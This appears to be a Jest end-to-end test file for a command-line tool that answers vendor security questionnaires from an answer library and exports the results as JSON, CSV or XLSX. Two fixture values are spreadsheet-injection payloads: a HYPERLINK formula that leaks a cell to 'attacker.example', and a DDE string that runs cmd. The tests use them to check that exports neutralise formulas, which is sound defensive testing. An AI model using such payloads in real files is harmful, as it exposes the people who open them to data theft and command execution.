import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import * as XLSX from '@e965/xlsx';
import { parseCsv, parseVsaq } from 'c/questionnaireParser';
import type { ConfidenceBand, LibraryEntry, MatchResult } from 'c/questionnaireModel';
import { projectRoot } from '../../lib/diagnostics';
import { main } from '../trustDesk';

/**
 * The `trust-desk` command end to end: every run goes through bin/trust-desk.js in a child process whose
 * working directory is a temporary folder outside the project, as a user would start it.
 */

const root = projectRoot();
const bin = path.join(root, 'bin', 'trust-desk.js');
const vsaqDir = path.resolve(root, '..', 'shared', 'reference', 'questionnaires', 'vsaq');
const hasVsaq = fs.existsSync(vsaqDir);
const describeIfShared = hasVsaq ? describe : describe.skip;
if (!hasVsaq) {
  console.warn(`Skipping the CLI run on the VSAQ fixture: ${vsaqDir} is not present.`);
}

const BANDS: readonly ConfidenceBand[] = ['high', 'medium', 'low', 'none'];
const FIELDS = ['key', 'section', 'question', 'entryId', 'score', 'band', 'answer'];

// Each run starts Node and tsx; the first one also compiles the command.
jest.setTimeout(120_000);

let work: string;

beforeAll(() => {
  work = fs.mkdtempSync(path.join(os.tmpdir(), 'trust-desk-cli-'));
});

afterAll(() => {
  fs.rmSync(work, { recursive: true, force: true });
});

interface Run {
  readonly status: number | null;
  readonly stdout: string;
  readonly stderr: string;
}

function trustDesk(...args: string[]): Run {
  const result = spawnSync(process.execPath, [bin, ...args], { cwd: work, encoding: 'utf8' });
  if (result.error) {
    throw result.error;
  }
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

function write(name: string, content: string | Uint8Array): string {
  fs.writeFileSync(path.join(work, name), content);
  return name;
}

function readJson(name: string): MatchResult[] {
  return JSON.parse(fs.readFileSync(path.join(work, name), 'utf8')) as MatchResult[];
}

const FORMULA_ANSWER = '=HYPERLINK("https://attacker.example/?leak="&A1,"Yes")';
const DDE_ANSWER = "@SUM(1+1)*cmd|' /C calc'!A0";

const LIBRARY: LibraryEntry[] = [
  {
    id: 'IAM-MFA',
    question: 'Do you enforce multi-factor authentication for remote access?',
    alternates: ['Is MFA required for VPN and administrator access?'],
    answer: 'Yes. MFA is enforced through our identity provider for every workforce account.',
    criteria: ['CC6.1']
  },
  {
    id: 'CRY-REST',
    question: 'Is customer data encrypted at rest?',
    alternates: ['Do you encrypt stored data, backups included?'],
    answer: 'Yes. AES-256, with keys held in a managed KMS.',
    criteria: ['CC6.1', 'CC6.7']
  },
  {
    id: 'VUL-PEN',
    question: 'Do you perform annual penetration tests by a third party?',
    answer: FORMULA_ANSWER,
    criteria: ['CC4.1']
  },
  {
    id: 'BCP-DR',
    question: 'Do you have a tested disaster recovery plan?',
    answer: DDE_ANSWER
  }
];

/** The same library as CSV: alternates separated by `|`, criteria by `;`, columns in another order. */
function libraryCsv(entries: readonly LibraryEntry[]): string {
  const quote = (cell: string): string => `"${cell.replace(/"/g, '""')}"`;
  const rows = entries.map((entry) =>
    [
      entry.id,
      entry.answer,
      entry.question,
      (entry.alternates ?? []).join('|'),
      (entry.criteria ?? []).join(';')
    ]
      .map(quote)
      .join(',')
  );
  return ['ID,Answer,Question,Alternates,Criteria', ...rows].join('\r\n') + '\r\n';
}

const QUESTIONS: ReadonlyArray<readonly [key: string, section: string, question: string]> = [
  [
    'A&A-01.1',
    'Identity & Access',
    'Is multi-factor authentication (MFA) required for all remote access to your systems?'
  ],
  ['A&A-01.2', 'Cryptography', 'Is customer data encrypted at rest, including backups?'],
  ['MISC-99', 'Other', 'What is the name of your company mascot?'],
  ['BCR-07', 'Resilience', 'Is your disaster recovery plan tested at least annually?'],
  [
    'TVM-03',
    'Threat & Vulnerability',
    'Does an independent third party perform penetration testing at least once a year?'
  ]
];

const EXPECTED_ENTRIES: Readonly<Record<string, string | null>> = {
  'A&A-01.1': 'IAM-MFA',
  'A&A-01.2': 'CRY-REST',
  'MISC-99': null,
  'BCR-07': 'BCP-DR',
  'TVM-03': 'VUL-PEN'
};

function questionnaireCsv(questions: ReadonlyArray<readonly [string, string, string]>): string {
  const quote = (cell: string): string => `"${cell.replace(/"/g, '""')}"`;
  return (
    ['Question ID,Domain,Question,Answer', ...questions.map((row) => [...row, ''].map(quote).join(','))].join(
      '\r\n'
    ) + '\r\n'
  );
}

/** The answer column (G) of an exported grid by key (column A), header row left out. */
function answersByKey(rows: readonly (readonly string[])[]): Map<string, string> {
  return new Map(rows.slice(1).map((row) => [row[0] ?? '', row[6] ?? '']));
}

function expectAnswers(results: readonly MatchResult[]): void {
  expect(results.map((result) => result.key)).toEqual(QUESTIONS.map(([key]) => key));
  expect(Object.fromEntries(results.map((result) => [result.key, result.entryId]))).toEqual(EXPECTED_ENTRIES);
  const byId = new Map(LIBRARY.map((entry) => [entry.id, entry.answer]));
  for (const result of results) {
    expect(Object.keys(result)).toEqual(FIELDS);
    expect(BANDS).toContain(result.band);
    expect(result.score).toBeGreaterThanOrEqual(0);
    expect(result.score).toBeLessThanOrEqual(1);
    if (result.entryId === null) {
      expect(result.answer).toBeNull();
      expect(result.band).toBe('none');
    } else {
      expect(result.answer).toBe(byId.get(result.entryId));
    }
  }
}

describe('trust-desk answer', () => {
  beforeAll(() => {
    write('library.json', JSON.stringify(LIBRARY, null, 2));
    write('library.csv', libraryCsv(LIBRARY));
    write('caiq.csv', questionnaireCsv(QUESTIONS));
  });

  it('prints its usage with --help, from any folder', () => {
    const run = trustDesk('--help');
    expect(run.status).toBe(0);
    expect(run.stdout).toContain('Usage: trust-desk answer --library');
    expect(run.stdout).toContain('--questionnaire');
    expect(run.stderr).toBe('');
  });

  it('answers a CSV questionnaire from a JSON library, in order, with keys kept and nulls where it abstains', () => {
    const run = trustDesk(
      'answer',
      '--library',
      'library.json',
      '--questionnaire',
      'caiq.csv',
      '--out',
      'out.json'
    );
    expect(run).toEqual({ status: 0, stdout: '', stderr: '' });
    const results = readJson('out.json');
    expectAnswers(results);
    expect(results[0]).toMatchObject({
      key: 'A&A-01.1',
      section: 'Identity & Access',
      question: QUESTIONS[0]?.[2],
      entryId: 'IAM-MFA',
      band: 'high'
    });
    expect(results[2]).toEqual({
      key: 'MISC-99',
      section: 'Other',
      question: 'What is the name of your company mascot?',
      entryId: null,
      score: expect.any(Number) as number,
      band: 'none',
      answer: null
    });
  });

  it('reads a CSV library (| between alternates, ; between criteria) to the same answers', () => {
    const run = trustDesk('answer', '-l', 'library.csv', '-q', 'caiq.csv', '-o', 'from-csv.json');
    expect(run).toEqual({ status: 0, stdout: '', stderr: '' });
    const results = readJson('from-csv.json');
    expectAnswers(results);
    expect(results).toEqual(readJson('out.json'));
  });

  it('writes CSV with formula-like answers neutralised and the keys as they were', () => {
    const run = trustDesk(
      'answer',
      '--library',
      'library.json',
      '--questionnaire',
      'caiq.csv',
      '--out',
      'out.csv'
    );
    expect(run.status).toBe(0);
    expect(run.stderr).toBe('');
    const rows = parseCsv(fs.readFileSync(path.join(work, 'out.csv'), 'utf8')).rows;
    expect(rows[0]).toEqual(FIELDS);
    expect(rows.slice(1).map((row) => row[0])).toEqual(QUESTIONS.map(([key]) => key));
    const answers = answersByKey(rows);
    expect(answers.get('TVM-03')).toBe(`'${FORMULA_ANSWER}`);
    expect(answers.get('BCR-07')).toBe(`'${DDE_ANSWER}`);
    expect(answers.get('MISC-99')).toBe('');
    expect(rows.slice(1).map((row) => row[3])).toEqual(QUESTIONS.map(([key]) => EXPECTED_ENTRIES[key] ?? ''));
    for (const row of rows.slice(1)) {
      expect(BANDS).toContain(row[5]);
    }
  });

  it('reads the sheet asked for in a workbook and writes XLSX with text cells, never formulas', () => {
    const book = XLSX.utils.book_new();
    const sheet = (rows: string[][]): XLSX.WorkSheet => XLSX.utils.aoa_to_sheet(rows);
    XLSX.utils.book_append_sheet(
      book,
      sheet([['Security questionnaire'], ['Please answer every question on the sheets that follow.']]),
      'Instructions'
    );
    XLSX.utils.book_append_sheet(
      book,
      sheet([
        ['Vendor questionnaire 2025', '', ''],
        ['Ref', 'Category', 'Question'],
        ...QUESTIONS.map(([key, section, question]) => [key, section, question])
      ]),
      'Security'
    );
    XLSX.utils.book_append_sheet(
      book,
      sheet([
        ['Ref', 'Category', 'Question'],
        ['PEN-1', 'Testing', 'Do you perform annual penetration tests by a third party?']
      ]),
      'Pen tests'
    );
    write('vendor.xlsx', XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer);

    const chosen = trustDesk(
      'answer',
      '-l',
      'library.json',
      '-q',
      'vendor.xlsx',
      '--sheet',
      'Pen tests',
      '-o',
      'pen.json'
    );
    expect(chosen).toEqual({ status: 0, stdout: '', stderr: '' });
    expect(readJson('pen.json').map((result) => [result.key, result.entryId])).toEqual([
      ['PEN-1', 'VUL-PEN']
    ]);

    const all = trustDesk(
      'answer',
      '-l',
      'library.json',
      '-q',
      'vendor.xlsx',
      '--sheet',
      '*',
      '-o',
      'all.json',
      '--verbose'
    );
    expect(all.status).toBe(0);
    expect(all.stderr).toContain(
      `answered ${QUESTIONS.length + 1} questions from 'vendor.xlsx', all sheets with questions`
    );
    expect(readJson('all.json').map((result) => result.key)).toEqual([
      ...QUESTIONS.map(([key]) => key),
      'PEN-1'
    ]);

    const run = trustDesk('answer', '-l', 'library.json', '-q', 'vendor.xlsx', '-o', 'answers.xlsx');
    expect(run).toEqual({ status: 0, stdout: '', stderr: '' });
    const written = XLSX.read(fs.readFileSync(path.join(work, 'answers.xlsx')), {
      type: 'buffer',
      cellFormula: true
    });
    expect(written.SheetNames).toEqual(['Answers']);
    const answers = written.Sheets.Answers as XLSX.WorkSheet;
    const rows = XLSX.utils.sheet_to_json<string[]>(answers, { header: 1, raw: false, defval: '' });
    expect(rows[0]).toEqual(FIELDS);
    expect(rows.slice(1).map((row) => row[0])).toEqual(QUESTIONS.map(([key]) => key));
    const answerCells = QUESTIONS.map(
      (_, index) => answers[XLSX.utils.encode_cell({ r: index + 1, c: 6 })] as XLSX.CellObject | undefined
    );
    for (const cell of answerCells) {
      expect(cell?.f).toBeUndefined();
      expect(cell?.t).toBe('s');
    }
    const byKey = answersByKey(rows);
    expect(byKey.get('TVM-03')).toBe(`'${FORMULA_ANSWER}`);
    expect(byKey.get('BCR-07')).toBe(`'${DDE_ANSWER}`);
    expect(byKey.get('A&A-01.1')).toBe(LIBRARY[0]?.answer);
  });

  it('reports progress and a summary by band for a large questionnaire, on stderr only', () => {
    const questions = Array.from({ length: 1200 }, (_, index) => {
      const [, section, question] = QUESTIONS[index % QUESTIONS.length] as readonly [string, string, string];
      return [`Q-${String(index + 1).padStart(4, '0')}`, section, question] as const;
    });
    write('large.csv', questionnaireCsv(questions));
    const run = trustDesk('answer', '-l', 'library.json', '-q', 'large.csv', '-o', 'large.json');
    expect(run.status).toBe(0);
    expect(run.stdout).toBe('');
    const lines = run.stderr.trimEnd().split('\n');
    expect(lines.slice(0, 2)).toEqual([
      'trust-desk: answered 500 of 1200 questions',
      'trust-desk: answered 1000 of 1200 questions'
    ]);
    const results = readJson('large.json');
    expect(results).toHaveLength(1200);
    const count = (band: ConfidenceBand): number => results.filter((result) => result.band === band).length;
    expect(lines[lines.length - 1]).toBe(
      `trust-desk: answered 1200 questions from 'large.csv' (1 skipped as not questions) into 'large.json': ` +
        `high ${count('high')}, medium ${count('medium')}, low ${count('low')}, none ${count('none')}`
    );
  });

  it("reads a CSV that is not UTF-8 as Excel's Windows-1252 export, and says so", () => {
    write(
      'windows-1252.csv',
      Buffer.from('Question ID;Question\r\nQ-1;Chiffrez-vous les donn\xe9es \x80 stock\xe9es ?\r\n', 'latin1')
    );
    const run = trustDesk('answer', '-l', 'library.json', '-q', 'windows-1252.csv', '-o', 'w.json', '-v');
    expect(run.status).toBe(0);
    expect(readJson('w.json').map((result) => result.question)).toEqual([
      'Chiffrez-vous les données € stockées ?'
    ]);
    expect(run.stderr).toContain('the file is not UTF-8: it was read as Windows-1252');
  });

  it('gives the same summary for a small questionnaire with --verbose', () => {
    const run = trustDesk(
      'answer',
      '-l',
      'library.json',
      '-q',
      'caiq.csv',
      '-o',
      'verbose.json',
      '--verbose'
    );
    expect(run.status).toBe(0);
    expect(run.stderr).toMatch(
      /^trust-desk: answered 5 questions from 'caiq.csv' .*: high \d+, medium \d+, low \d+, none \d+\n$/m
    );
    expect(run.stderr).not.toMatch(/ of 5 questions/);
  });
});

describe('trust-desk on bad input: exit code 2 and one line naming the problem', () => {
  beforeAll(() => {
    write('lib.json', JSON.stringify(LIBRARY));
    write('questions.csv', questionnaireCsv(QUESTIONS));
    write('empty.json', '[]');
    write(
      'broken.json',
      '[\n  {"id": "A", "question": "Q?", "answer": "Yes"},\n  {"id": "B" "question": "R?"}\n]'
    );
    write('duplicate.json', JSON.stringify([LIBRARY[0], { ...LIBRARY[1], id: 'IAM-MFA' }]));
    write(
      'no-answer.csv',
      'id,question,alternates,answer,criteria\r\nA-1,Do you use MFA?,,Yes,\r\nA-2,Do you encrypt data?,,,CC6.1\r\n'
    );
    write('not-a-list.json', '{"id": "A", "question": "Q?", "answer": "Yes"}');
    write('header-only.csv', 'Question ID,Question\r\n');
    write('unterminated.csv', 'Question ID,Question\r\nQ-1,Do you use MFA?\r\nQ-2,"Do you encrypt data?\r\n');
    write('vsaq-broken.json', '{"questionnaire": [\n  {"type": "block",\n   "items": [}\n]}');
    write('notes.pdf', '%PDF-1.7');
  });

  const missingOut = path.join('missing-folder', 'out.json');

  it.each<[string, string[], RegExp]>([
    ['no command', [], /no command/],
    ['an unknown command', ['ask'], /unknown command 'ask'/],
    ['an unknown option', ['answer', '--libary', 'lib.json'], /unknown option '--libary'/],
    ['an option without its value', ['answer', '--library'], /--library needs a value/],
    [
      'a missing option',
      ['answer', '--library', 'lib.json', '--questionnaire', 'questions.csv'],
      /missing --out/
    ],
    [
      'an unknown format',
      ['answer', '-l', 'lib.json', '-q', 'questions.csv', '-o', 'o.json', '--format', 'pdf'],
      /unknown --format 'pdf'/
    ],
    [
      'an extension that names no format',
      ['answer', '-l', 'lib.json', '-q', 'notes.pdf', '-o', 'o.json'],
      /cannot tell the format of 'notes.pdf'/
    ],
    [
      'an output that is not json, csv or xlsx',
      ['answer', '-l', 'lib.json', '-q', 'questions.csv', '-o', 'o.txt'],
      /--out 'o.txt' must end in .json, .csv or .xlsx/
    ],
    [
      'an unreadable questionnaire',
      ['answer', '-l', 'lib.json', '-q', 'nowhere.csv', '-o', 'o.json'],
      /cannot read the questionnaire 'nowhere.csv': no such file/
    ],
    [
      'an unreadable library',
      ['answer', '-l', 'nowhere.json', '-q', 'questions.csv', '-o', 'o.json'],
      /cannot read the library 'nowhere.json': no such file/
    ],
    [
      'an empty library',
      ['answer', '-l', 'empty.json', '-q', 'questions.csv', '-o', 'o.json'],
      /library 'empty.json' has no entries/
    ],
    [
      'a library that is not JSON',
      ['answer', '-l', 'broken.json', '-q', 'questions.csv', '-o', 'o.json'],
      /broken.json, line 3, column 14: invalid JSON/
    ],
    [
      'a library that is not a list',
      ['answer', '-l', 'not-a-list.json', '-q', 'questions.csv', '-o', 'o.json'],
      /not-a-list.json: expected a JSON list of entries/
    ],
    [
      'a repeated library id',
      ['answer', '-l', 'duplicate.json', '-q', 'questions.csv', '-o', 'o.json'],
      /duplicate.json, entry 2 \(id 'IAM-MFA'\): the id is already used by entry 1/
    ],
    [
      'a library row without an answer',
      ['answer', '-l', 'no-answer.csv', '-q', 'questions.csv', '-o', 'o.json'],
      /no-answer.csv, row 3, column D \(id 'A-2'\): the answer is empty/
    ],
    [
      'a CSV questionnaire that the parser rejects',
      ['answer', '-l', 'lib.json', '-q', 'unterminated.csv', '-o', 'o.json'],
      /unterminated.csv, row 3, column B: unterminated quoted field/
    ],
    [
      'a questionnaire with a header and no questions, saying why',
      ['answer', '-l', 'lib.json', '-q', 'header-only.csv', '-o', 'o.json'],
      /no questions found in 'header-only.csv' \(1 row or node that are not questions\): sheet 'header-only' has a header on row 1 but no question rows below it\n$/
    ],
    [
      'a VSAQ questionnaire that is not JSON',
      ['answer', '-l', 'lib.json', '-q', 'vsaq-broken.json', '-o', 'o.json'],
      /vsaq-broken.json, line 3, column \d+: invalid JSON/
    ],
    [
      'a CSV read as a workbook',
      ['answer', '-l', 'lib.json', '-q', 'questions.csv', '--format', 'xlsx', '-o', 'o.json'],
      /questions.csv: not an Excel workbook/
    ],
    [
      '--sheet for a CSV file',
      ['answer', '-l', 'lib.json', '-q', 'questions.csv', '--sheet', 'One', '-o', 'o.json'],
      /--sheet applies to workbooks only/
    ],
    [
      'an output over the questionnaire',
      ['answer', '-l', 'lib.json', '-q', 'questions.csv', '-o', './questions.csv'],
      /--out '.\/questions.csv' is the questionnaire itself/
    ],
    [
      'an output folder that does not exist',
      ['answer', '-l', 'lib.json', '-q', 'questions.csv', '-o', missingOut],
      /cannot write '.*out.json': /
    ]
  ])('%s', (_label, args, message) => {
    const run = trustDesk(...args);
    expect(run.status).toBe(2);
    expect(run.stdout).toBe('');
    expect(run.stderr.endsWith('\n')).toBe(true);
    expect(run.stderr.trimEnd().split('\n')).toHaveLength(1);
    expect(run.stderr).toMatch(/^trust-desk: /);
    expect(run.stderr).toMatch(message);
    expect(fs.existsSync(path.join(work, 'o.json'))).toBe(false);
    expect(fs.readdirSync(work).filter((name) => name.endsWith('.tmp'))).toEqual([]);
  });

  it('names the sheets of a workbook when --sheet names none of them', () => {
    const book = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(
      book,
      XLSX.utils.aoa_to_sheet([
        ['Ref', 'Question'],
        ['Q-1', 'Do you use MFA?']
      ]),
      'Security'
    );
    write('one-sheet.xlsx', XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer);
    const run = trustDesk(
      'answer',
      '-l',
      'lib.json',
      '-q',
      'one-sheet.xlsx',
      '--sheet',
      'Privacy',
      '-o',
      'o.json'
    );
    expect(run.status).toBe(2);
    expect(run.stderr.trimEnd().split('\n')).toHaveLength(1);
    expect(run.stderr).toContain("there is no sheet named 'Privacy': the workbook has 'Security'");
  });
});

describe('trust-desk on unexpected errors', () => {
  it('exits 1 and says the error was unexpected', () => {
    const stderr: string[] = [];
    const code = main(['--help'], {
      stdout: () => {
        throw new Error('stdout is closed');
      },
      stderr: (text) => stderr.push(text)
    });
    expect(code).toBe(1);
    expect(stderr.join('')).toMatch(/^trust-desk: unexpected error: Error: stdout is closed/);
  });
});

describeIfShared(`trust-desk on Google's VSAQ (${vsaqDir})`, () => {
  const VSAQ_COUNTS: Readonly<Record<string, number>> = {
    'infrastructure.json': 96,
    'webapp.json': 73,
    'security_privacy_programs.json': 46,
    'physical_and_datacenter.json': 30
  };
  const library = path.join(root, 'scripts', 'bench', 'data', 'library.json');
  const libraryIds = new Set(
    (JSON.parse(fs.readFileSync(library, 'utf8')) as LibraryEntry[]).map((entry) => entry.id)
  );
  const runs = new Map<string, Run>();

  beforeAll(() => {
    for (const file of Object.keys(VSAQ_COUNTS)) {
      runs.set(
        file,
        trustDesk(
          'answer',
          '--library',
          library,
          '--questionnaire',
          path.join(vsaqDir, file),
          '--out',
          outOf(file)
        )
      );
    }
  });

  const outOf = (file: string): string => `vsaq-${path.basename(file, '.json')}.json`;

  it.each(Object.entries(VSAQ_COUNTS))('answers every item of %s (%i items)', (file, count) => {
    expect(runs.get(file)).toEqual({ status: 0, stdout: '', stderr: '' });
    const results = readJson(outOf(file));
    expect(results).toHaveLength(count);
    expect(results.map((result) => result.key)).toEqual(
      parseVsaq(fs.readFileSync(path.join(vsaqDir, file), 'utf8')).items.map((item) => item.key)
    );
    expect(new Set(results.map((result) => result.key)).size).toBe(count);
    for (const result of results) {
      expect(Object.keys(result)).toEqual(FIELDS);
      expect(BANDS).toContain(result.band);
      expect(result.score).toBeGreaterThanOrEqual(0);
      expect(result.score).toBeLessThanOrEqual(1);
      expect(result.entryId === null).toBe(result.answer === null);
      expect(result.entryId === null).toBe(result.band === 'none');
    }
    const unknown = results.filter((result) => result.entryId !== null && !libraryIds.has(result.entryId));
    expect(unknown).toEqual([]);
  });

  it('answers 245 items across the four files', () => {
    const total = Object.keys(VSAQ_COUNTS).reduce((sum, file) => sum + readJson(outOf(file)).length, 0);
    expect(total).toBe(245);
  });
});
